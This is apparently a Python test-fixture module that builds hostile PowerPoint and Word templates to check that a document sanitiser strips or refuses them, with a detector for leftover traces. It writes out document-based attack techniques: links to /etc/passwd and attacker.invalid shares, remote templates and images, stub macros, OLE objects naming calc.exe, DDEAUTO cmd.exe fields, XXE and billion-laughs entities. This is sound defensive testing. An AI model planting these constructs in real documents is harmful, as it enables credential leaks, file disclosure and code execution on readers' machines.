"""Hostile PowerPoint and Word templates, made from python-pptx's and python-docx's own by editing their zips: one
function per way a template could reach outside the file or run something once an output made from it is opened
(docs/security.md). Each takes a template's bytes and returns them made hostile; `traces` lists what of any of
it an Office file still holds."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from docx import Document
from lxml import etree
from PIL import Image
from pptx import Presentation

ATTACKER = "attacker.invalid"
"""The host every hostile address names (`.invalid` never resolves): no output may hold it."""
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MASTER = "ppt/slideMasters/slideMaster1.xml"
LAYOUT = "ppt/slideLayouts/slideLayout1.xml"
THEME = "ppt/theme/theme1.xml"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_FETCHING_FIELDS = {"INCLUDEPICTURE", "INCLUDETEXT", "INCLUDE", "LINK", "DDE", "DDEAUTO", "HYPERLINK", "MACROBUTTON"}
_TRACES = ("<!DOCTYPE", "<w:altChunk", "<w:frameset", "<w:attachedTemplate", "<w:mailMerge", "<p:oleObj",
           "<o:OLEObject", "<p:control ", ATTACKER, "/etc/passwd", "secret.xlsx", "cmd.exe")
_RUNNING_CLICK = re.compile(r'<a:hlink\w+ [^>]*action="(ppaction://(?:macro|program|ole)[^"]*)"')
_HOSTILE_TYPES = ("vbaProject", "wordVbaData", "oleObject", "/package", "/control", "aFChunk", "attachedTemplate",
                  "/frame", "subDocument")


@cache
def plain_pptx() -> bytes:
    """python-pptx's template with a sample slide, as an organisation might send it."""
    deck = Presentation()
    deck.slides.add_slide(deck.slide_layouts[0]).shapes.title.text_frame.text = "Sample"
    written = io.BytesIO()
    deck.save(written)
    return written.getvalue()


@cache
def plain_docx() -> bytes:
    """python-docx's template with a header and sample text."""
    document = Document()
    document.sections[0].header.paragraphs[0].text = "Our organisation"
    document.add_paragraph("Sample text")
    written = io.BytesIO()
    document.save(written)
    return written.getvalue()


def png() -> bytes:
    written = io.BytesIO()
    Image.new("RGB", (2, 2), "teal").save(written, "PNG")
    return written.getvalue()


class Package:
    """A template's parts, edited as text."""

    def __init__(self, data: bytes) -> None:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            self.parts = {name: archive.read(name) for name in archive.namelist()}

    def copy(self) -> Package:
        copied = Package.__new__(Package)
        copied.parts = dict(self.parts)
        return copied

    def bytes(self) -> bytes:
        """The parts zipped, stored rather than compressed (quicker, and a template may be either)."""
        written = io.BytesIO()
        with zipfile.ZipFile(written, "w", zipfile.ZIP_STORED) as archive:
            for name, data in self.parts.items():
                archive.writestr(name, data)
        return written.getvalue()

    def insert(self, part: str, before: str, xml: str, *, after: bool = False) -> None:
        """Put `xml` before (or after) the first `before` in `part`."""
        text = self.parts[part].decode()
        at = text.index(before) + (len(before) if after else 0)
        self.parts[part] = (text[:at] + xml + text[at:]).encode()

    def relate(self, source: str, identifier: str, kind: str, target: str, *, external: bool = False) -> None:
        folder, name = source.rsplit("/", 1)
        rels = f"{folder}/_rels/{name}.rels"
        if rels not in self.parts:
            self.parts[rels] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
                                b'"http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
        mode = ' TargetMode="External"' if external else ""
        self.insert(rels, "</Relationships>",
                    f'<Relationship Id="{identifier}" Type="{kind}" Target="{target}"{mode}/>')

    def add(self, part: str, data: bytes, content_type: str) -> None:
        self.parts[part] = data
        self.insert("[Content_Types].xml", "</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/>')

    def retype(self, part: str, content_type: str) -> None:
        text = self.parts["[Content_Types].xml"].decode()
        self.parts["[Content_Types].xml"] = re.sub(f'(PartName="/{re.escape(part)}" ContentType=)"[^"]*"',
                                                   f'\\1"{content_type}"', text).encode()


def _edited(data: bytes, edit: Callable[[Package], None]) -> bytes:
    package = Package(data)
    edit(package)
    return package.bytes()


def _text_shape(relationship: str = "", action: str = "") -> str:
    click = f'<a:hlinkClick r:id="{relationship}"{f" action={action!r}" if action else ""}/>'
    return (f'<p:sp><p:nvSpPr><p:cNvPr id="900" name="Link"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr><p:spPr/>'
            f'<p:txBody><a:bodyPr/><a:p><a:r><a:rPr lang="en-GB">{click}</a:rPr><a:t>Our policies</a:t></a:r>'
            f'</a:p></p:txBody></p:sp>')


def file_link_in_master(pptx: bytes) -> bytes:
    """A master's text links to a file on the reader's machine."""
    def edit(package: Package) -> None:
        package.relate(MASTER, "rId900", OFFICE + "hyperlink", "file:///etc/passwd", external=True)
        package.insert(MASTER, "</p:spTree>", _text_shape("rId900"))
    return _edited(pptx, edit)


def unc_link_in_layout(pptx: bytes) -> bytes:
    """A layout's text links to a share on another host (Windows sends its credentials to open it)."""
    def edit(package: Package) -> None:
        package.relate(LAYOUT, "rId901", OFFICE + "hyperlink", f"\\\\{ATTACKER}\\share\\policy.docx", external=True)
        package.insert(LAYOUT, "</p:spTree>", _text_shape("rId901"))
    return _edited(pptx, edit)


def linked_picture_in_master(pptx: bytes) -> bytes:
    """A master's picture is linked, not embedded: Office and LibreOffice fetch it when the deck opens."""
    def edit(package: Package) -> None:
        package.relate(MASTER, "rId902", OFFICE + "image", f"http://{ATTACKER}/pixel.png", external=True)
        package.insert(MASTER, "</p:spTree>", (
            '<p:pic><p:nvPicPr><p:cNvPr id="901" name="Tracker"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
            '<a:blip r:link="rId902"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm>'
            '<a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/>'
            '</a:prstGeom></p:spPr></p:pic>'))
    return _edited(pptx, edit)


def macro_project_in_pptx(pptx: bytes) -> bytes:
    """A VBA project, under the macro-enabled content type, in a file named .pptx."""
    def edit(package: Package) -> None:
        package.add("ppt/vbaProject.bin", b"\xd0\xcf\x11\xe0Sub Auto_Open()", "application/vnd.ms-office.vbaProject")
        package.relate("ppt/presentation.xml", "rId903", "http://schemas.microsoft.com/office/2006/relationships/"
                       "vbaProject", "vbaProject.bin")
        package.retype("ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
    return _edited(pptx, edit)


def _ole_frame(relationship: str, inner: str) -> str:
    return ('<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="902" name="Object"/><p:cNvGraphicFramePr/><p:nvPr/>'
            '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></p:xfrm><a:graphic>'
            '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
            f'<p:oleObj progId="Package" r:id="{relationship}">{inner}</p:oleObj></a:graphicData></a:graphic>'
            '</p:graphicFrame>')


def embedded_ole_object_in_layout(pptx: bytes) -> bytes:
    """A layout holds an embedded OLE package (a program a double click runs)."""
    def edit(package: Package) -> None:
        package.add("ppt/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0calc.exe",
                    "application/vnd.openxmlformats-officedocument.oleObject")
        package.relate(LAYOUT, "rId904", OFFICE + "oleObject", "../embeddings/oleObject1.bin")
        package.insert(LAYOUT, "</p:spTree>", _ole_frame("rId904", "<p:embed/>"))
    return _edited(pptx, edit)


def linked_ole_object_in_master(pptx: bytes) -> bytes:
    """A master holds an OLE object linked to a workbook elsewhere, offered in a markup-compatibility block."""
    def edit(package: Package) -> None:
        package.relate(MASTER, "rId905", OFFICE + "oleObject", "file:///C:/Finance/secret.xlsx", external=True)
        choice, fallback = _ole_frame("rId905", '<p:link updateAutomatic="1"/>'), _ole_frame("rId905", "<p:link/>")
        package.insert(MASTER, "</p:spTree>", (
            '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
            f'<mc:Choice xmlns:v="urn:schemas-microsoft-com:vml" Requires="v">{choice}</mc:Choice>'
            f'<mc:Fallback>{fallback}</mc:Fallback></mc:AlternateContent>'))
    return _edited(pptx, edit)


def activex_control_in_master(pptx: bytes) -> bytes:
    """A master holds an ActiveX web browser control."""
    def edit(package: Package) -> None:
        package.add("ppt/activeX/activeX1.xml", b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"'
                    b' ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" ax:persistence="persistPropertyBag"/>',
                    "application/vnd.ms-office.activeX+xml")
        package.relate(MASTER, "rId906", OFFICE + "control", "../activeX/activeX1.xml")
        package.insert(MASTER, "</p:spTree>", '<p:controls><p:control name="Browser" r:id="rId906" '
                                              'spid="_x0000_s1025"/></p:controls>', after=True)
    return _edited(pptx, edit)


def macro_on_click_in_layout(pptx: bytes) -> bytes:
    """A layout's text runs a macro when clicked."""
    return _edited(pptx, lambda package: package.insert(
        LAYOUT, "</p:spTree>", _text_shape(action="ppaction://macro?name=Evil")))


def theme_with_external_entity(pptx: bytes) -> bytes:
    """The theme declares an entity that reads a local file, and names itself with it."""
    def edit(package: Package) -> None:
        text = package.parts[THEME].decode()
        text = text.replace("?>", '?><!DOCTYPE a:theme [<!ENTITY secret SYSTEM "file:///etc/passwd">]>', 1)
        package.parts[THEME] = text.replace('name="Office Theme"', 'name="&secret;"', 1).encode()
    return _edited(pptx, edit)


def alt_chunk_in_document(docx: bytes) -> bytes:
    """The body imports an HTML page (Word renders it, fetching what it names, when it opens the file)."""
    def edit(package: Package) -> None:
        package.add("word/afchunk.html", f'<html><body><img src="http://{ATTACKER}/a.png"></body></html>'.encode(),
                    "text/html")
        package.relate("word/document.xml", "rId910", OFFICE + "aFChunk", "afchunk.html")
        package.insert("word/document.xml", "<w:sectPr", '<w:altChunk r:id="rId910"/>')
    return _edited(docx, edit)


def attached_template_in_settings(docx: bytes) -> bytes:
    """The settings attach a template at a web address (Word fetches it, and its macros, on open)."""
    def edit(package: Package) -> None:
        package.relate("word/settings.xml", "rId911", OFFICE + "attachedTemplate", f"http://{ATTACKER}/evil.dotm",
                       external=True)
        package.insert("word/settings.xml", "<w:defaultTabStop", '<w:attachedTemplate r:id="rId911"/>')
    return _edited(docx, edit)


def web_frame_in_web_settings(docx: bytes) -> bytes:
    """The web settings hold a frameset whose frame is a remote page."""
    def edit(package: Package) -> None:
        package.relate("word/webSettings.xml", "rId912", OFFICE + "frame", f"http://{ATTACKER}/frame.html",
                       external=True)
        package.insert("word/webSettings.xml", "</w:webSettings>", (
            '<w:frameset><w:frame><w:name w:val="f"/><w:sourceFileName r:id="rId912"/></w:frame></w:frameset>'))
    return _edited(docx, edit)


def _complex_field(code: str, result: str) -> str:
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{code}</w:instrText>'
            f'</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def fields_in_header(docx: bytes) -> bytes:
    """The header's fields fetch a picture, include a local file, link a workbook on a share, start a program
    (DDEAUTO, and DDE spelt by a nested QUOTE field), beside a page number, which stays a field."""
    def edit(package: Package) -> None:
        quoted_dde = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + _complex_field("QUOTE 68 68 69", "DDE")
                      + '<w:r><w:instrText xml:space="preserve"> c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
                        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>run</w:t>'
                        '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
        package.insert("word/header1.xml", "</w:p>", (
            f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://{ATTACKER}/logo.png&quot; \\d ">'
            '<w:r><w:t>logo</w:t></w:r></w:fldSimple>'
            f'<w:fldSimple w:instr="LINK Excel.Sheet.12 &quot;\\\\\\\\{ATTACKER}\\\\share\\\\book.xlsx&quot; \\a">'
            '<w:r><w:t>12%</w:t></w:r></w:fldSimple>'
            + _complex_field(' INCLUDETEXT "/etc/passwd" ', "included")
            + _complex_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ', "run")
            + quoted_dde + _complex_field(" PAGE ", "1")))
    return _edited(docx, edit)


def hyperlink_in_header(docx: bytes) -> bytes:
    """The header links to a file on a share."""
    def edit(package: Package) -> None:
        package.relate("word/header1.xml", "rId913", OFFICE + "hyperlink", f"file://{ATTACKER}/share/x.docx",
                       external=True)
        package.insert("word/header1.xml", "</w:p>", '<w:hyperlink r:id="rId913"><w:r><w:t>Intranet</w:t></w:r>'
                                                      '</w:hyperlink>')
    return _edited(docx, edit)


def macro_project_in_docx(docx: bytes) -> bytes:
    """A VBA project and its data, under the macro-enabled content type, in a file named .docx."""
    def edit(package: Package) -> None:
        package.add("word/vbaProject.bin", b"\xd0\xcf\x11\xe0Sub AutoOpen()", "application/vnd.ms-office.vbaProject")
        package.add("word/vbaData.xml", b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/'
                    b'wordml"/>', "application/vnd.ms-word.vbaData+xml")
        package.relate("word/document.xml", "rId914", "http://schemas.microsoft.com/office/2006/relationships/"
                       "vbaProject", "vbaProject.bin")
        package.relate("word/vbaProject.bin", "rId1", "http://schemas.microsoft.com/office/2006/relationships/"
                       "wordVbaData", "vbaData.xml")
        package.retype("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
    return _edited(docx, edit)


def ole_objects_in_document(docx: bytes) -> bytes:
    """The body holds an embedded OLE package and an OLE object linked to a workbook elsewhere, each with its
    preview, and a VML picture whose original is named by address (the picture stays, the address goes)."""
    def edit(package: Package) -> None:
        package.add("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0calc.exe",
                    "application/vnd.openxmlformats-officedocument.oleObject")
        package.add("word/media/preview.png", png(), "image/png")
        package.relate("word/document.xml", "rId915", OFFICE + "oleObject", "embeddings/oleObject1.bin")
        package.relate("word/document.xml", "rId916", OFFICE + "image", "media/preview.png")
        package.relate("word/document.xml", "rId917", OFFICE + "oleObject", "file:///C:/Finance/secret.xlsx",
                       external=True)
        shape = '<v:shape id="_x0000_i{0}" style="width:10pt;height:10pt"><v:imagedata r:id="rId916"{1}/></v:shape>'
        addressed = shape.format(1027, ' o:href="file:///etc/passwd"')
        package.insert("word/document.xml", "<w:sectPr", (
            f'<w:p><w:r><w:object>{shape.format(1025, "")}<o:OLEObject Type="Embed" ProgID="Package" '
            'ShapeID="_x0000_i1025" r:id="rId915"/></w:object></w:r>'
            f'<w:r><w:object>{shape.format(1026, "")}<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" '
            'ShapeID="_x0000_i1026" r:id="rId917"><o:LinkType>EnhancedMetafile</o:LinkType></o:OLEObject></w:object>'
            f'</w:r><w:r><w:pict>{addressed}</w:pict></w:r></w:p>'))
    return _edited(docx, edit)


def styles_with_entity_expansion(docx: bytes) -> bytes:
    """The styles declare entities that expand a billionfold (parsed without them, they would still be there)."""
    def edit(package: Package) -> None:
        laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
        package.insert("word/styles.xml", "?>", f'<!DOCTYPE w:styles [<!ENTITY l0 "lol">{laughs}]>', after=True)
    return _edited(docx, edit)


@dataclass(frozen=True)
class Case:
    make: Callable[[bytes], bytes]
    suffix: str
    dropped: dict[str, int]
    """What the warning counts, by kind (empty for a template refused: see `refused`)."""
    refused: str = ""
    """The part an error names, for a template that is refused."""


CASES = [
    Case(file_link_in_master, "pptx", {"external link": 1}),
    Case(unc_link_in_layout, "pptx", {"external link": 1}),
    Case(linked_picture_in_master, "pptx", {"external link": 1}),
    Case(macro_project_in_pptx, "pptx", {"macro project": 1}),
    Case(embedded_ole_object_in_layout, "pptx", {"OLE object": 1}),
    Case(linked_ole_object_in_master, "pptx", {"OLE object": 1}),
    Case(activex_control_in_master, "pptx", {"ActiveX control": 1}),
    Case(macro_on_click_in_layout, "pptx", {"click action that runs a macro or program": 1}),
    Case(theme_with_external_entity, "pptx", {}, "ppt/theme/theme1.xml"),
    Case(alt_chunk_in_document, "docx", {"imported HTML or RTF (altChunk)": 1}),
    Case(attached_template_in_settings, "docx", {"attached template": 1}),
    Case(web_frame_in_web_settings, "docx", {"web frame": 1}),
    Case(fields_in_header, "docx", {"INCLUDEPICTURE field": 1, "LINK field": 1, "INCLUDETEXT field": 1,
                                    "DDEAUTO field": 1, "field built from another field": 1}),
    Case(hyperlink_in_header, "docx", {"external link": 1}),
    Case(macro_project_in_docx, "docx", {"macro project": 1}),
    Case(ole_objects_in_document, "docx", {"OLE object": 2, "external link": 1}),
    Case(styles_with_entity_expansion, "docx", {}, "word/styles.xml"),
]


def combined(data: bytes, suffix: str) -> bytes:
    """Every case for `suffix` that is not refused, applied one after another."""
    for case in CASES:
        if case.suffix == suffix and not case.refused:
            data = case.make(data)
    return data


def traces(package: bytes, *, web_links: bool = False) -> list[str]:
    """What an Office file holds of any hostile template: its parts and their content types, every relationship
    (external ones allowed only to web and mail addresses, if `web_links`: the content's own links) and every
    XML part's text and Word field codes."""
    found = []
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, data in parts.items():
        if re.search(r"vba|embeddings/|activeX|oleObject|afchunk", name, re.IGNORECASE):
            found.append(f"part {name}")
        text = data.decode("utf-8", "replace")
        found += [f"{trace!r} in {name}" for trace in _TRACES if trace in text]
        found += [f"click action {action!r} in {name}" for action in _RUNNING_CLICK.findall(text)]
        if name.endswith(".rels"):
            for relationship in etree.fromstring(data):
                target, kind = relationship.get("Target", ""), relationship.get("Type", "")
                if relationship.get("TargetMode") == "External" and not (
                        web_links and target.startswith(("https://", "http://", "mailto:"))):
                    found.append(f"external {target!r} in {name}")
                found += [f"relationship {kind} in {name}" for hostile in _HOSTILE_TYPES if kind.endswith(hostile)]
        elif name == "[Content_Types].xml":
            found += [f"content type {found_type}" for found_type in re.findall(r'ContentType="([^"]*)"', text)
                      if re.search(r"macro|vba|oleObject|activeX|html", found_type, re.IGNORECASE)]
        elif name.endswith(".xml") and "<w:" in text:
            found += [f"field {code!r} in {name}" for code in field_codes(data)  # QUOTE: only to spell DDE here
                      if (code.split() or [""])[0].upper() in _FETCHING_FIELDS | {"QUOTE"}]
    return found


def field_codes(part: bytes) -> list[str]:
    """The codes of the fields in a Word part: complex ones', then simple ones'."""
    root = etree.fromstring(part)
    return [code.strip() for code in [*root.itertext(f"{{{W_NS}}}instrText"), *(
        element.get(f"{{{W_NS}}}instr", "") for element in root.iter(f"{{{W_NS}}}fldSimple"))]]
